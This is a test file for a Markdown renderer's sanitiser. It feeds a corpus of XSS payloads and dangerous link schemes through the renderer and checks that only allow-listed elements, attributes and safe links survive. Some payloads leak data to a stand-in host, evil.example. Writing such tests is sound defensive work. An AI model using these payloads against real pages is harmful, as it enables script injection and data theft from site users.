// @vitest-environment happy-dom
import { render } from 'preact';
import { expect, test } from 'vitest';
import { decodeEntities, safeHref } from './links';
import { plainText } from './plain';
import { Markdown } from './render';

const labels = { copy: 'Copy', copied: 'Copied', image: 'Image:', table: 'Table', code: 'Code' };

function shown(text: string, finished = true): HTMLElement {
  const root = document.createElement('div');
  render(<Markdown text={text} finished={finished} labels={labels} />, root);
  return root;
}

const SCRIPTS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', ' javascript:alert(1)',
  '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)',
  '&#106;avascript:alert(1)', 'jav&#x09;ascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://x.example/1', 'file:///etc/passwd', 'filesystem:https://x.example/t', 'about:blank', 'view-source:https://x.example',
  '//evil.example/x', '\\\\evil.example\\x', '/\\evil.example', '///evil.example', 'https://good.example@evil.example/',
  'intent://scan/#Intent;end', 'ftp://x.example/', 'tel:+1', 'sms:+1', 'ws://x.example/', 'chrome://settings', 'relative/path',
  '/absolute/path', '#fragment', '?query', 'http://', 'https:', 'javascript://x.example/%0aalert(1)',
]; // prettier-ignore

const MARKUP = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="data:text/html,x">',
  '<embed src="https://evil.example/">', '<form action="https://evil.example/"><button>go</button></form>', '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<a href="https://evil.example/" onclick="alert(1)">x</a>', '<body onload=alert(1)>',
  '<link rel=stylesheet href=https://evil.example/>', '<style>@import "https://evil.example/"</style>', '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<isindex action=javascript:alert(1)>', '<marquee onstart=alert(1)>',
  '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>',
  '<div style="background:url(https://evil.example/)">', '<p\nonmouseover=alert(1)>x', '<ScRiPt>alert(1)</sCrIpT>', '<img src="https://evil.example/?q=SECRET">',
]; // prettier-ignore

const CORPUS = [
  ...SCRIPTS.flatMap((address) => [
    `[click](${address})`, `[click](<${address}>)`, `![pixel](${address})`, `[click][r]\n\n[r]: ${address}\n`, `<${address}>`,
  ]),
  ...MARKUP.flatMap((html) => [html, `before ${html} after`, `- ${html}`, `> ${html}`, `# ${html}`, `| a |\n|---|\n| ${html} |`, `\`${html}\``, `\`\`\`html\n${html}\n\`\`\``]),
  '![a](https://evil.example/?q=SECRET)', '[![a](https://evil.example/p.png)](javascript:alert(1))', '![a](https://evil.example/"onerror=alert(1))',
  '[a](https://x.example "\\" onmouseover=alert(1)")', '```"><script>alert(1)</script>\nx\n```', '[`x`](javascript:alert(1))',
]; // prettier-ignore

const ELEMENTS = new Set(
  'DIV P H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE TABLE THEAD TBODY TR TH TD HR BR STRONG EM DEL A SPAN BUTTON'.split(' '),
);
const ATTRIBUTES = new Set(['class', 'dir', 'href', 'target', 'rel', 'role', 'aria-label', 'tabindex', 'start', 'type']);

test(`${CORPUS.length} hostile texts yield nothing but harmless nodes`, () => {
  expect(CORPUS.length).toBeGreaterThanOrEqual(100);
  for (const text of CORPUS) {
    for (const finished of [false, true]) {
      const root = shown(text, finished);
      for (const element of root.querySelectorAll('*')) {
        expect(ELEMENTS, text).toContain(element.tagName);
        for (const { name } of element.attributes) expect(ATTRIBUTES, text).toContain(name.toLowerCase());
        const href = element.getAttribute('href');
        if (href !== null) {
          expect(href, text).toMatch(/^(https?:\/\/[^/@]+\/|mailto:)/);
          expect(href, text).not.toMatch(/^https?:\/\/[^/]*@/);
        }
      }
    }
  }
});

test.each(SCRIPTS)('%j is no address to link to', (address) => {
  expect(safeHref(address)).toBeNull();
  expect(safeHref(decodeEntities(address))).toBeNull();
});

test('what may be linked', () => {
  expect(safeHref('https://x.example/a?b=1&c=2#d')).toBe('https://x.example/a?b=1&c=2#d');
  expect(safeHref('http://x.example')).toBe('http://x.example/');
  expect(safeHref('mailto:a@x.example')).toBe('mailto:a@x.example');
});

test('html is text, an image is a link', () => {
  expect(shown('a <b>bold</b> claim').textContent).toBe('a <b>bold</b> claim');
  const link = shown('![A cat](https://x.example/cat.png)').querySelector('a');
  expect(link?.textContent).toBe('Image: A cat');
  expect(link?.getAttribute('href')).toBe('https://x.example/cat.png');
});

test('character references are resolved, except in code', () => {
  expect(shown('a &lt;b&gt; &amp; &#8594; &hellip; &bogus; `&lt;`').textContent).toBe('a <b> & → … &bogus; &lt;');
});

test('blocks', () => {
  const root = shown('# T\n\n1. a\n2. b\n\n- [x] done\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet x;\n```\n\n> q\n\n---\n');
  expect([...root.querySelectorAll('.md > *')].map((e) => e.tagName)).toEqual(['H3', 'OL', 'UL', 'DIV', 'DIV', 'BLOCKQUOTE', 'HR']);
  expect(root.querySelector('pre code')?.textContent).toBe('let x;');
  expect(root.querySelector('.bar span')?.textContent).toBe('js');
});

test('words for a screen reader', () => {
  expect(plainText('# Hi\n\nA **bold** [link](https://x.example) &amp; `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n')).toBe(
    'Hi A bold link & code. one two a b 1 2',
  );
});
